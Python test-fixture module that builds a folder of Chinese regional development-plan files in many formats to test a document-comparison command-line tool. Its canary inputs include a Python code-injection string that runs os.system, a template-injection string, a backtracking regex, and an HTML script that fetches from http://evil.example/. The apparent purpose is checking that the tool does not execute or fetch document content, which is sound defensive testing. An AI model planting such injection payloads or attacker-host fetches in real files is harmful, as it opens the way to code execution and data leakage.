"""A small folder with a plan for every reader, and runs of the whole job over it in processes of their own."""

from __future__ import annotations

import io
import os
import subprocess
import sys
from collections.abc import Iterable
from email.message import EmailMessage
from functools import cache
from pathlib import Path

from openpyxl import Workbook

from tests.builders import COUNTY, ROOT
from tests.readers import pdf_builders
from tests.readers.docx_builders import docx, para

CANARY = "Canary7f3a"
"""Stands in every file that is read, in words that would be code somewhere."""
_CODE = (
    f"__import__('os').system('touch {CANARY}')",
    f"{{{{ {CANARY}.__class__ }}}}",
    f"(?P<{CANARY}>产业.*)+$",
)
_CITY = """清远市国民经济和社会发展第十四个五年规划纲要
第一章 主要任务
第一节 产业发展
推进产业集群建设，培育绿色建材产业集群，到2025年产值达到500亿元。
第二节 公共服务
完善养老服务设施，新建养老院10所，支持社会力量参与。
大力发展乡村旅游，建设一批精品民宿。
"""
# A page of a few lines is taken for one that has not been saved with its text.
_MORE = """实施乡村振兴战略，建设高标准农田50万亩，粮食总产量稳定在100万吨以上，农村居民人均可支配收入年均增长8%左右。
推进瑶族文化生态保护，办好民族节庆活动，打造千年古城文化品牌，把清远建设成为粤北生态旅游名城。
加强生态文明建设，落实河长制、湖长制、林长制，空气质量优良天数比例保持在98%以上，筑牢粤北生态屏障。
"""


@cache
def contents() -> dict[str, bytes]:
    """File name -> content; the names tell who is above whom."""
    code = "".join(f"推进产业集群建设，用好{text}。\n" for text in _CODE)
    county = COUNTY + _MORE + code
    return {
        "清远市规划纲要.html": _page(_CITY + _MORE + code),
        "连州市规划纲要.docx": docx(*(para(line.replace("<", "&lt;")) for line in county.splitlines())),
        "英德市规划纲要.pdf": pdf_builders.typeset(county.replace("连州", "英德")),
        "佛冈县规划纲要.txt": county.replace("连州市", "佛冈县").encode("gb18030"),
        "阳山县规划纲要.md": county.replace("连州市", "阳山县").encode(),
        "连南县规划纲要.mhtml": _archive(county.replace("连州市", "连南瑶族自治县")),
        "规划汇编.xlsx": _workbook(
            [("标题", "地区", "级别", "正文"), ("清新区规划纲要", "清新区", "区级", county.replace("连州市", "清新区"))]
        ),
        "旧稿.rtf": rb"{\rtf1\ansi plan}",
        "themes.xlsx": _workbook(
            [
                ("id", "name", "definition", "aliases"),
                ("T1", "产业集群", f"以集群形式组织产业 {_CODE[0]}", "绿色建材"),
                ("T2", "养老服务", "养老院和居家养老", "敬老院"),
                ("T3", "产.集群", "点不是通配符", ""),
                ("T4", "乡村旅游", "民宿和乡村休闲", ""),
            ]
        ),
    }


def write(folder: Path, names: Iterable[str] | None = None) -> Path:
    """The folder, its files made in the order given."""
    folder.mkdir(parents=True)
    for name in contents() if names is None else names:
        (folder / name).write_bytes(contents()[name])
    return folder


def run(args: Iterable[object], start: str, folder: Path, **environment: str) -> subprocess.CompletedProcess[str]:
    """The command in a process that runs some Python before anything else, as do the processes that it starts.

    Args:
        args: Of the command line.
        start: That Python.
        folder: For what the processes need.
        environment: Added to that of this process; ``cwd`` is where it runs.
    """
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "sitecustomize.py").write_text(start, encoding="utf-8")
    cwd = environment.pop("cwd", str(folder))
    return subprocess.run(
        [sys.executable, "-c", "from compare.cli import main; main()", *map(str, args)],
        capture_output=True,
        encoding="utf-8",
        errors="replace",
        cwd=cwd,
        env=os.environ
        | {"PYTHONPATH": f"{folder}{os.pathsep}{ROOT}", "PYTHONIOENCODING": "utf-8"}
        | {"PLANALIGN_CACHE": str(folder / "cache")}
        | environment,
        check=False,
        timeout=300,
    )


def _page(text: str) -> bytes:
    title, *lines = (line.replace("<", "&lt;") for line in text.splitlines())
    body = "".join(f"<p>{line}</p>" for line in lines)
    script = f"<script>fetch('http://evil.example/{CANARY}')</script><img src='http://evil.example/{CANARY}.png'>"
    head = f"<meta charset='utf-8'><title>{title}</title><link rel='stylesheet' href='http://evil.example/x.css'>"
    return f"<html><head>{head}</head><body><h1>{title}</h1>{body}{script}</body></html>".encode()


def _archive(text: str) -> bytes:
    """As browsers save it."""
    message = EmailMessage()
    message["From"] = "<Saved by Blink>"
    message["MIME-Version"] = "1.0"
    message.set_content(_page(text).decode(), subtype="html")
    message.make_related()
    return bytes(message)


def _workbook(rows: Iterable[tuple[str, ...]]) -> bytes:
    book = Workbook()
    for row in rows:
        book.active.append(list(row))
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
